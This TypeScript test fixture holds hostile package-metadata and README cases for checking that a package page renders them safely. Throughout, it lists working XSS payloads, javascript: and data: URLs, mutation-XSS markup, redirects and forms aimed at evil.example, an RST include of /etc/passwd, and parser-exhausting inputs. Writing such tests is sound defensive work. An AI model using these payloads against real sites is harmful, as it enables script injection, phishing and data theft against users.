// Metadata that wants to be more than text on a page. Each case sets `window.pwned` (or asks for `/pwned`) if anything of
// it ever runs or loads.

import type { WheelText } from './pages-fixture.ts';

export interface HostileCase extends Pick<WheelText, 'headers' | 'readme'> {
  title: string;
  /** Must be readable on the page. */
  shows?: string;
}

const run = 'window.pwned=1';
const markdown = 'Description-Content-Type: text/markdown';

/** What is tried in every field that is one line. */
const lines: Readonly<Record<string, string>> = {
  'a script': `safe-text<script>${run}</script>`,
  'an image with a handler': `safe-text<img src=x onerror=${run}>`,
  'the end of an attribute': `safe-text" autofocus onfocus="${run}" x="`,
  'the end of an attribute in single quotes': `safe-text' onmouseover='${run}`,
  'the end of title, style and textarea': `safe-text</title></style></textarea><script>${run}</script>`,
  'the end of a comment': `safe-text--><svg onload=${run}>`,
  entities: `safe-text&lt;script&gt;${run}&lt;/script&gt;&#x3c;img src=x onerror=${run}&#x3e;`,
  'a template of another language': `safe-text{{constructor.constructor("${run}")()}}\${${run}}<%= ${run} %>`,
};

const fields = [
  'Summary',
  'Keywords',
  'Home-page',
  'Download-URL',
  'Author',
  'Author-email',
  'Maintainer',
  'Maintainer-email',
  'License',
  'License-Expression',
  'Classifier',
  'Project-URL',
  'Provides-Extra',
  'Platform',
] as const;

/** Every trick in every field. */
const inFields: HostileCase[] = fields.flatMap((field) =>
  Object.entries(lines).map(([trick, text]) => ({
    title: `${field} with ${trick}`,
    headers: [`${field}: ${text}`],
    ...(!['Provides-Extra', 'Platform'].includes(field) && { shows: 'safe-text' }),
  })),
);

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `javascript&colon;${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==`,
  `vbscript:${run}`,
  `blob:https://example.org/1`,
  `file:///etc/passwd`,
  `//evil.example/pwned`,
  `\\\\evil.example\\pwned`,
  `https://user:password@evil.example/`,
  `https://good.example@evil.example/`,
  `view-source:javascript:${run}`,
  `filesystem:http://x/`,
  `intent://x#Intent;scheme=javascript;end`,
];

const inAddresses: HostileCase[] = addresses.flatMap((address) => [
  { title: `Home-page ${JSON.stringify(address)}`, headers: [`Home-page: ${address}`] },
  {
    title: `Project-URL ${JSON.stringify(address)}`,
    headers: [`Project-URL: Docs, ${address}`],
    shows: 'Docs',
  },
  {
    title: `a link in a README to ${JSON.stringify(address)}`,
    headers: [markdown],
    readme: `safe-text [link](<${address}>) <a href="${address}">html</a> ![image](<${address}>)`,
    shows: 'safe-text',
  },
]);

/** Written as Markdown, shown below `README`. */
const readmes: Readonly<Record<string, string>> = {
  'a script': `<script>${run}</script>`,
  'a script that is not closed': `<script>${run}`,
  'a script in a script': `<scr<script>ipt>${run}</scr</script>ipt>`,
  'a script in capital letters with a slash': `<SCRIPT/x>${run}</SCRIPT>`,
  'a handler': `<img src=x onerror=${run}>`,
  'a handler after a slash': `<img/src=x/onerror=${run}>`,
  'a handler after a line end': `<img src=x\nonerror\n=\n${run}>`,
  'a handler of a details': `<details open ontoggle=${run}><summary>x</summary></details>`,
  'a handler with focus': `<input autofocus onfocus=${run}><a href="#" autofocus onfocus=${run}>a</a>`,
  'a handler of an animation': `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${run}>a</b>`,
  'an svg': `<svg onload=${run}><script>${run}</script></svg>`,
  'an svg with an animated link': `<svg><a><animate attributeName=href values=javascript:${run} /><text y=9>click</text></a></svg>`,
  'an svg with a foreign object': `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></foreignObject></svg>`,
  'an svg that uses': `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload=${run}/>#x"/></svg>`,
  'a math': `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  'a math that changes when parsed twice': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  'a form in a form in a math': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  'an svg that changes when parsed twice': `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  'a noscript': `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  'a template': `<template><script>${run}</script></template>`,
  'a textarea': `<textarea><script>${run}</script></textarea><textarea></textarea><img src=x onerror=${run}>`,
  'an xmp and a plaintext': `<xmp><img src=x onerror=${run}></xmp><plaintext>`,
  'a comment with its end in it': `<!--><img src=x onerror=${run}>--> <!--x--!><img src=x onerror=${run}>-->`,
  'a section of CDATA': `<![CDATA[><img src=x onerror=${run}>]]>`,
  'an instruction': `<?xml-stylesheet href="javascript:${run}"?><?php ?><img src=x onerror=${run}>`,
  'a frame': `<iframe src="javascript:parent.${run}"></iframe><iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  'an object and an embed': `<object data="javascript:${run}"></object><embed src="/pwned.svg"><applet code=x></applet>`,
  'a base': '<base href="https://evil.example/"><a href="x">link</a>',
  'a refresh': `<meta http-equiv="refresh" content="0;url=https://evil.example/pwned">`,
  'a link to a style':
    '<link rel="stylesheet" href="https://evil.example/pwned.css"><style>@import "/pwned.css"</style>',
  'a style':
    '<p style="position:fixed;inset:0;background:url(https://evil.example/pwned)">over everything</p>',
  'a form that sends': `<form action="https://evil.example/pwned"><button formaction="javascript:${run}">go</button></form>`,
  media: `<video src="/pwned" onerror=${run} autoplay></video><audio src=x onerror=${run}></audio><picture><source srcset="/pwned"></picture>`,
  'an image from elsewhere':
    '![tracked](https://evil.example/pwned.png) <img src="https://evil.example/pwned.png" srcset="/pwned 2x">',
  'an image that is a script': `![x](javascript:${run}) ![x](data:image/svg+xml,<svg/onload=${run}>)`,
  'a link whose title ends': `[a](https://x.example "t\\" onmouseover=\\"${run}")`,
  'a link whose address ends': `[a](https://x.example/"onmouseover="${run})`,
  'a link by reference': `[a][r]\n\n[r]: javascript:${run} "x"`,
  'an automatic link': `<javascript:${run}> <https://x.example/"onclick=${run}>`,
  'code with an end in it': `\`</code><script>${run}</script>\`\n\n\`\`\`"><script>${run}</script>\n</code></pre><script>${run}</script>\n\`\`\``,
  'a name that hides ours':
    '<p id="content">x</p><a name="q">x</a><img name="body"><h1 id="install">Install</h1>',
  'a class of ours':
    '<p class="notice good">Promoted.</p><button class="button">Promote</button><div class="skip">x</div>',
  'the end of our own elements': '</div></section></main></body></html><h1>Below</h1>',
  'a table that is not closed': '<table><tr><td><table><tr><td>x\n\n# Heading',
  'a heading with a script': `# <script>${run}</script> <img src=x onerror=${run}>`,
  'quotes nested ten thousand times': `${'>'.repeat(10_000)} x`,
  'lists nested a thousand times': Array.from(
    { length: 1000 },
    (_, depth) => `${' '.repeat(depth * 2)}- x`,
  ).join('\n'),
  'elements nested ten thousand times': `${'<div>'.repeat(10_000)}x`,
  'brackets without end': '['.repeat(50_000),
  'stars without end': '*a '.repeat(30_000),
  'links without end': '[a]('.repeat(20_000),
  'a table with a thousand columns': `${'|a'.repeat(1000)}\n${'|-'.repeat(1000)}\n${'|b'.repeat(1000)}`,
  'one word of a hundred thousand letters': 'w'.repeat(100_000),
  'a million characters of text': 'many words '.repeat(90_000),
  'a line end in a tag': `<img src="x"\u2028onerror=${run}> <a href="java\u0000script:${run}">x</a>`,
  'zero bytes': `<scr\u0000ipt>${run}</scr\u0000ipt><img src=x oner\u0000ror=${run}>`,
  'letters of full width': `＜script＞${run}＜/script＞ <ｓcript>${run}</ｓcript>`,
  'another encoding': `+ADw-script+AD4-${run}+ADw-/script+AD4- \u001b$B <script>${run}</script>`,
};

const inReadmes: HostileCase[] = Object.entries(readmes).map(([trick, text]) => ({
  title: `a README with ${trick}`,
  headers: [markdown],
  readme: `safe-text\n\n${text}`,
  shows: 'safe-text',
}));

/** The same for reStructuredText. */
const rstReadmes: Readonly<Record<string, string>> = {
  'raw HTML': `.. raw:: html\n\n    <script>${run}</script>\n\n.. |r| raw:: html <script>${run}</script>\n\n|r|`,
  'a role for raw HTML': `.. role:: raw-html(raw)\n   :format: html\n\n:raw-html:\`<script>${run}</script>\``,
  'HTML between its marks': `**<script>${run}</script>** *<img src=x onerror=${run}>* \`\`</code><script>${run}</script>\`\``,
  'a link to a script': `\`click <javascript:${run}>\`_ bad_ \`bad\`_\n\n.. _bad: javascript:${run}`,
  'an address that ends its attribute': `\`a <https://x.example/"onmouseover="${run}>\`_ https://x.example/"onclick=${run}`,
  'a link that refers to itself': 'a_ b_\n\n.. _a: b_\n.. _b: a_',
  'an image of a script': `.. image:: javascript:${run}\n   :alt: "><script>${run}</script>\n   :target: javascript:${run}`,
  'an included file':
    '.. include:: /etc/passwd\n\n.. literalinclude:: /etc/passwd\n\n.. csv-table::\n   :file: /etc/passwd',
  'a title of HTML': `<img src=x onerror=${run}>\n=================================================`,
  'a directive nobody knows': `.. evil:: <script>${run}</script>\n   :x: <script>\n\n   <script>${run}</script>`,
  'a table of HTML': `====  ====\n<script>${run}</script>  x\n====  ====\n\n+--+\n|<script>${run}</script>|\n+--+`,
  'fields of HTML': `:<script>${run}</script>: <img src=x onerror=${run}>\n\n| <script>${run}</script>\n\n>>> <script>${run}</script>`,
  'indentation a thousand deep': Array.from({ length: 1000 }, (_, depth) => `${' '.repeat(depth)}x\n`).join(
    '\n',
  ),
  'lists a thousand deep': `${'- '.repeat(1000)}x`,
  'stars without end': '*a '.repeat(30_000),
  'backquotes without end': '`a '.repeat(30_000),
  'bars without end': '|a '.repeat(30_000),
  'underscores without end': 'a_b'.repeat(30_000),
  'punctuation without end': `${'='.repeat(100_000)}\n`.repeat(3),
  'a hundred thousand titles': 'a\n===\n'.repeat(30_000),
  'one long word of every mark': '``*|_:.'.repeat(12_000),
};

const inRst: HostileCase[] = Object.entries(rstReadmes).map(([trick, text]) => ({
  title: `an RST README with ${trick}`,
  headers: ['Description-Content-Type: text/x-rst'],
  readme: `safe-text\n\n${text}`,
  shows: 'safe-text',
}));

const plainTypes = ['text/plain', 'text/x-rst', '', 'text/html', 'text/markdown<script>', '"><script>'];

const asText: HostileCase[] = plainTypes.map((type) => ({
  title: `a README of the type ${JSON.stringify(type)}`,
  headers: type === '' ? [] : [`Description-Content-Type: ${type}`],
  readme: `safe-text <script>${run}</script></pre><img src=x onerror=${run}>`,
  shows: `safe-text <script>${run}</script></pre><img src=x onerror=${run}>`,
}));

const override = '\u202e';
const others: HostileCase[] = [
  {
    title: 'a summary written backwards',
    headers: [`Summary: safe-text ${override}gnp.exe\u2066\u2067`],
    shows: 'safe-text gnp.exe',
  },
  { title: 'an author written backwards', headers: [`Author: ${override}safe-text`], shows: 'safe-text' },
  {
    title: 'code written backwards',
    headers: [markdown],
    readme: `safe-text\n\n\`if x:${override} # \u2066harmless\``,
    shows: 'safe-text',
  },
  {
    title: 'a summary of invisible characters',
    headers: ['Summary: \u200b\u200b\ufeff\u2060\u{e0041}safe-text'],
    shows: 'safe-text',
  },
  {
    title: 'a summary that piles up marks',
    headers: [`Summary: safe-text${'\u0335\u0360\u0489'.repeat(500)}`],
    shows: 'safe-text',
  },
  {
    title: 'a summary of a hundred thousand letters',
    headers: [`Summary: ${'safe-text'.repeat(11_000)}`],
    shows: 'safe-text',
  },
  {
    title: 'ten thousand keywords',
    headers: [`Keywords: safe-text,${'word,'.repeat(10_000)}`],
    shows: 'safe-text',
  },
  {
    title: 'five thousand classifiers',
    headers: Array.from({ length: 5000 }, (_, index) => `Classifier: A :: safe-text ${index}`),
    shows: 'safe-text',
  },
  {
    title: 'five thousand links',
    headers: Array.from(
      { length: 5000 },
      (_, index) => `Project-URL: safe-text ${index}, https://x.example/`,
    ),
    shows: 'safe-text',
  },
  {
    title: 'two thousand requirements',
    headers: Array.from({ length: 2000 }, (_, index) => `Requires-Dist: safe-text-${index}`),
    shows: 'safe-text',
  },
  {
    title: 'a requirement at an address',
    headers: [`Requires-Dist: safe-text @ javascript:${run}`],
    shows: 'safe-text',
  },
  {
    title: 'a requirement with a marker that ends',
    headers: [`Requires-Dist: safe-text; extra == '"><script>'`],
    shows: 'safe-text',
  },
  {
    title: 'a Requires-Python with a bracket',
    headers: ['Requires-Python: >=3,<4,!=3.0.*'],
    shows: '>=3,<4,!=3.0.*',
  },
  {
    title: 'a label that lies about where it leads',
    headers: ['Project-URL: https://good.example/safe-text, https://evil.example/'],
    shows: 'evil.example',
  },
  {
    title: 'an author whose address is a script',
    headers: [`Author-email: safe-text <javascript:${run}@x.example>`],
    shows: 'safe-text',
  },
  {
    title: 'an author whose address has more in it',
    headers: ['Author-email: safe-text <a@x.example?subject=x&body=y>'],
    shows: 'safe-text',
  },
  {
    title: 'a license of many lines',
    headers: [`License: safe-text\n        <script>${run}</script>\n        more`],
    shows: 'safe-text',
  },
  {
    title: 'names that are those of objects',
    headers: [
      'Classifier: __proto__ :: safe-text',
      'Classifier: constructor :: toString',
      'Provides-Extra: __proto__',
    ],
    shows: 'safe-text',
  },
  { title: 'half a character', headers: ['Summary: safe-text 😀'.padEnd(320, '😀')], shows: 'safe-text' },
];

export const hostileCases: readonly HostileCase[] = [
  ...inFields,
  ...inAddresses,
  ...inReadmes,
  ...inRst,
  ...asText,
  ...others,
];
